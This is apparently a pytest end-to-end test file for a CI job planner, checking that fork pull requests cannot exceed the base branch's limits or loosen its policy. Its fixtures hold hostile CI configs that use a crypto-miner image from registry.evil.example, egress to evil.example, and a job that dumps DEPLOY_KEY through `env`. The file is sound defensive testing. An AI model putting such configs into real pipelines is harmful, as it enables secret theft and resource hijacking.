"""A fork whose `.delta.yml` asks for more than the base branch gives it. Planned from real git repositories."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from actors.planner.actor import Planner
from models.change import Change, ChangeKind, Forge, Trust
from models.ids import CommitId, JobId
from models.plan import Plan
from sandbox.source.mirror import Mirrors
from tests.e2e.repositories import git

BASE = """\
version: 1
jobs:
  test:
    run: make test
    resources: {memory_mb: 512, cpus: 1}
    timeout: 5m
"""
HOSTILE = """\
version: 1
jobs:
  test:
    run: make test
    image: registry.evil.example/miner:latest
    resources: {memory_mb: 65536, cpus: 64, pids: 30000}
    timeout: 23h
    retries: 10
    egress: ["*.evil.example", "pypi.org"]
    services: {miner: {image: "registry.evil.example/miner", memory_mb: 65536, port: 1}}
    concurrency: {group: deploy, limit: 1}
  steal:
    run: env
    secrets: [DEPLOY_KEY]
    egress: [evil.example]
    image: registry.evil.example/miner:latest
  step:
    steps:
      - run: env
        secrets: [{name: DEPLOY_KEY, file: true}]
"""


@pytest.fixture
def mirrors(tmp_path: Path) -> Iterator[Mirrors]:
    made = Mirrors(tmp_path / "mirrors")
    yield made
    made.close()


GUARDED = """\
version: 1
policy:
  images: [runner-*]
  max_jobs: 2
  required: [test, audit]
  forks: {approval: all}
jobs:
  test: {run: make test}
  audit: {run: make audit}
"""
LOOSENED = """\
version: 1
policy: {images: "*", max_jobs: 200, required: [], forks: {approval: none}}
jobs:
  test: {run: "true", allow_failure: true}
  mine:
    matrix: {n: [1, 2, 3, 4, 5, 6, 7, 8]}
    run: ./mine
    image: miner${{ matrix.n }}
"""


async def planned(mirrors: Mirrors, tmp_path: Path, trust: Trust, base: str = BASE, head: str = HOSTILE) -> Plan:
    repository = tmp_path / "repository"
    repository.mkdir()
    git(repository, "init", "--quiet", "--initial-branch=main")
    commits = []
    for text in (base, head):
        (repository / ".delta.yml").write_text(text)
        git(repository, "add", "--all")
        git(repository, "commit", "--quiet", "--message=change")
        commits.append(CommitId(git(repository, "rev-parse", "HEAD")))
    change = Change(
        forge=Forge.GITHUB,
        kind=ChangeKind.PULL_REQUEST,
        trust=trust,
        repository="ada/shop",
        clone_url=str(repository),
        head=commits[1],
        base=commits[0],
        head_ref="main",
        base_ref="main",
    )
    return await Planner(mirrors, tmp_path / "policy.yml").plan(change)


async def test_what_it_may_not_decide_comes_from_the_base_branch(mirrors: Mirrors, tmp_path: Path) -> None:
    plan = await planned(mirrors, tmp_path, Trust.FORK)
    [test] = [job.spec for job in plan.jobs if job.spec.id == "test"]
    assert test.image == "runner-python"
    assert (test.resources.memory_mb, test.resources.cpus, test.resources.pids) == (512, 1, 1024)
    assert (test.timeout_s, test.retries, test.concurrency) == (300, 0, None)
    assert (test.egress, test.services) == ((), ())
    told = "\n".join(plan.notes)
    for word in ("image", "resources", "timeout", "egress", "services"):
        assert word in told


async def test_jobs_that_ask_for_secrets_are_refused_with_a_reason_and_do_not_run(
    mirrors: Mirrors, tmp_path: Path
) -> None:
    plan = await planned(mirrors, tmp_path, Trust.FORK)
    assert {job.spec.id for job in plan.refused} == {JobId("steal"), JobId("step")}
    assert {job.spec.id for job in plan.jobs} == {JobId("test")}
    for job in plan.refused:
        assert any("a change from a fork gets no secrets" in reason.evidence for reason in job.reasons)


async def test_the_policy_bounds_those_who_are_trusted_too(mirrors: Mirrors, tmp_path: Path) -> None:
    (tmp_path / "policy.yml").write_text("version: 1\nimages: [runner-*]\negress: {allow: [pypi.org]}\n")
    plan = await planned(mirrors, tmp_path, Trust.TRUSTED)
    refused = {job.spec.id: " ".join(reason.evidence for reason in job.reasons) for job in plan.refused}
    assert "registry.evil.example/miner" in refused[JobId("test")]
    assert "evil.example" in refused[JobId("steal")]


async def test_a_policy_cannot_be_loosened_by_the_change_that_it_judges(mirrors: Mirrors, tmp_path: Path) -> None:
    plan = await planned(mirrors, tmp_path, Trust.FORK, GUARDED, LOOSENED)
    refused = {job.id: "; ".join(reason.evidence for reason in job.reasons) for job in plan.refused}
    assert [job.spec.id for job in plan.jobs] == ["mine-1", "mine-2"]
    assert {job.spec.image for job in plan.jobs} == {"runner-python"}
    assert len(refused) == 8
    assert "take `allow_failure` out" in refused[JobId("test")]
    assert "requires a job `audit`" in refused[JobId("audit")]
    assert "`max_jobs` is 2" in refused[JobId("mine-8")]
    assert plan.held


async def test_nor_by_one_from_within_the_repository(mirrors: Mirrors, tmp_path: Path) -> None:
    plan = await planned(mirrors, tmp_path, Trust.TRUSTED, GUARDED, LOOSENED)
    assert plan.jobs == ()
    assert {job.id for job in plan.refused} == {"test", "audit", *(f"mine-{n}" for n in range(1, 9))}
    assert not plan.held
